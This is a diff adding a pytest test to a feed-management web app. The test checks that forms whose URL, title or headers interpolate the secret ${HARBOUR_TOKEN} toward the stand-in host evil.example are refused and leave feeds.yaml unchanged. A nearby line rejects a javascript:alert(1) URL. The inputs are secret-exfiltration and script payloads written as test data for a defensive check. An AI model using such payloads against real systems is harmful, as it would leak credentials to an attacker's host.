@@ -192,6 +192,28 @@ def test_a_feed_is_tried_then_added_then_removed(
     assert editor.post("/wireroom/feeds/add", data={"url": "javascript:alert(1)"}).status_code == 409
 
 
+@pytest.mark.parametrize("button", ["try", "add"])
+@pytest.mark.parametrize(
+    "given",
+    [
+        {"url": "https://evil.example/?x=${HARBOUR_TOKEN}"},
+        {"url": "https://${HARBOUR_TOKEN}.evil.example/"},
+        {"url": "https://evil.example/", "title": "${HARBOUR_TOKEN}"},
+        {"url": "https://evil.example/", "connection": "warehouse"},
+        {"url": "https://evil.example/", "headers": "X-Api-Key: ${HARBOUR_TOKEN}"},
+    ],
+)
+def test_no_form_names_a_secret_of_this_machine(
+    editor: TestClient, newsroom: Newsroom, settings: Settings, button: str, given: dict[str, str]
+) -> None:
+    """Whoever may start runs would have it sent to a host of their choice."""
+    before = settings.feeds_file.read_text()
+    refused = editor.post(f"/wireroom/feeds/{button}", data=given)
+    assert refused.status_code == 400
+    assert "into feeds.yaml" in refused.text
+    assert settings.feeds_file.read_text() == before
+
+
 def test_opml_comes_in_and_goes_out(editor: TestClient, newsroom: Newsroom, settings: Settings) -> None:
     opml = (
         '<opml version="2.0"><body><outline text="World"><outline type="rss" text="Ferry &lt;b&gt;" '
